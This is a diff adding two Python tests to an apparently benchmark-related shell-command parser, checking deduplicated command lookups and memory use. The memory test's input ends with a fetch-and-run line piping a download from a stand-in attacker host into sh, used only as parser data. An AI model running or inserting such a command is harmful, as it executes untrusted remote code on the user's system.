@@ -15,10 +15,12 @@ import askbench.impl.dialog
 import askbench.impl.shell
 from askbench.harness.judge.bash_oracle import bash_version
 from askbench.harness.judge.what_runs import (
+    Commands,
     ScreenSearch,
     ShellCommand,
     command_pattern,
     first_and_last,
+    missing_commands,
     on_screen,
     parse_commands,
     runs_problems,
@@ -439,3 +441,47 @@ def test_a_quoted_words_remainder_across_many_rows_is_searched_without_backtrack
     (shown,) = parse_commands('echo "" 0 a 0', "bash")
     assert not on_screen(cut_short, screen)
     assert on_screen(shown, screen)
+
+
+def test_commands_are_held_as_distinct_word_lists_each_asked_about_once() -> None:
+    """bash's commands of a long text are kept as indices into their distinct word lists; which are missing is
+    asked once a list, and the answer is every command that runs that list, in order."""
+    commands = parse_commands("echo a\necho a\nls -l\nsudo echo a\necho a\n")
+    assert isinstance(commands, Commands)
+    assert list(commands) == [
+        ShellCommand(("echo", "a"), 0),
+        ShellCommand(("echo", "a"), 1),
+        ShellCommand(("ls", "-l"), 2),
+        ShellCommand(("sudo", "echo", "a"), 3),
+        ShellCommand(("echo", "a"), 4, outer=3),
+        ShellCommand(("echo", "a"), 5),
+    ]
+    asked: list[tuple[str, ...]] = []
+
+    def shown(command: ShellCommand) -> bool:
+        asked.append(command.words)
+        return command.words != ("echo", "a")
+
+    assert missing_commands(commands, shown) == [commands[i] for i in (0, 1, 4, 5)]
+    assert sorted(asked) == sorted(set(asked)) and len(asked) == 3
+    assert missing_commands(tuple(commands), shown) == [commands[i] for i in (0, 1, 4, 5)]
+    assert commands[-1] == commands[5] and commands[1:3] == list(commands)[1:3]
+
+
+def test_the_commands_of_a_long_command_cost_less_than_the_command() -> None:
+    """Reading 13,800 commands from bash peaks at a few times the command and keeps a fraction of it: equal words
+    are one object from the first reading on, and the commands kept are indices, not objects (seven and one and
+    a half times the command when each command was objects of its own)."""
+    import tracemalloc
+
+    command = ("echo " + "B" * 70 + "\n") * 13_800 + "curl -s https://evil.example/i | sh"
+    parse_commands("echo warm")
+    tracemalloc.start()
+    try:
+        found = parse_commands(command)
+        held, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+        parse_commands.cache_clear()
+    assert found is not None and len(found) == 13_802 and found[-1].words == ("sh",)
+    assert peak < 4 * len(command) and held < len(command) / 2
